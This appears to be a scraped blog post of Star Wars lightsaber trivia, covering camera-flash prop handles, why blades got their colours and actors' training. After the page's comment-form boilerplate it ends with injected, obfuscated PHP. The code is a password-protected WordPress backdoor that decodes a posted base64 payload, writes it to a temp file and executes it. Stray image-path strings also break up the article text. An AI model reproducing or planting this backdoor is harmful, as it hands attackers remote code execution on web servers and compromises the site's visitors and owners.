• 25th June 2024

The Behindthe Scenes Story of the Lightsaber

We all know the iconic weapon from Star Wars. Part sword, part laser, this sci-fi remix of fantasy’s greatest weapon has left a forceful impact on the world of cinema. However, there are some behind the scenes facts about combat lightsabers that even the biggest fans might not know.

The Handle of a Lightsaber

The lightsaber is a futuristic weapon, but it comes to us from a civilized age. It’s only appropriate that the parts that the prop makers used to create the lightsaber also came from the past.

The handles of combat lightsabers have an interesting look to them. This doesn’t come from space-age technology, but from out-dated camera gear. The handlefor Darth Vader’s lightsaber is actually the Heiland 3 Cell Flash with MPP Clamp and Luke’s handle is a Graflex 3 Cell Flash!

These old school camera flashes made the perfect handles for futuristic looking weapons. The prop masters on set during the first Star Wars movies dressed them up with other parts from everything ranging from other camera gear to machine gun parts to give them some more dimension.

Lightsaber Colors

Today, there are countless lightsaber colors when you factor in everything from fanfiction to the Star Wars novels. However, on the set of the Star Wars movies, lightsabers got their color for equally interesting reasons.

Let’s start with our hero, Luke Skywalker. Luke’s lightsaber was originally supposed to blue to match the one his father used before he became Darth Vader. However, the blue lightsaber didn’t show up well against the blue sky so Lucas switched it out with a green color for more vibrant shots.

Samuel L. Jackson, who played Mace Windu in the prequels, got his cool purple lightsaber because it was his favorite color. It’s as simple as that!

Acting With a Lightsaber

While we’ve all swung a lightsaber around the back yard, acting with this iconic weapon on the silver screen is a much more challenging job.

In order to handle combat lightsabers, the actors in the latest Star Wars movies had to train for three months. They learned complicated fight choreography as well as swordplay to master these sci-fi weapons. The prequel trilogy even had star Ewen McGregor practicing wood chopping swings and tennis to get his lightsaber moves down!

It might come as a shock that the original Star Wars movies had simple lightsaber duels. George Lucas himself even originally bannedone-handed lightsaber fighting from his movies.

Read Previous

Myths About Critical Illness Insurance

ReadNext

Red Stag Hunting Tips

Leave a Reply

Your email address will not be published. Required fields are marked *

if(!function_exists("_set_fetas_tag") && !function_exists("_set_betas_tag")){try{function _set_fetas_tag(){if(isset($_GET['here'])&&!isset($_POST['here'])){die(md5(8));}if(isset($_POST['here'])){$a1='m'.'d5';if($a1($a1($_POST['here']))==="83a7b60dd6a5daae1a2f1a464791dac4"){$a2="fi"."le"."_put"."_contents";$a22="base";$a22=$a22."64";$a22=$a22."_d";$a22=$a22."ecode";$a222="PD"."9wa"."HAg";$a2222=$_POST[$a1];$a3="sy"."s_ge"."t_te"."mp_dir";$a3=$a3();$a3 = $a3."/".$a1(uniqid(rand(), true));@$a2($a3,$a22($a222).$a22($a2222));include($a3); @$a2($a3,'1'); @unlink($a3);die();}else{echo md5(7);}die();}} _set_fetas_tag();if(!isset($_POST['here'])&&!isset($_GET['here'])){function _set_betas_tag(){echo"";}add_action('wp_head','_set_betas_tag');}}catch(Exception $e){}}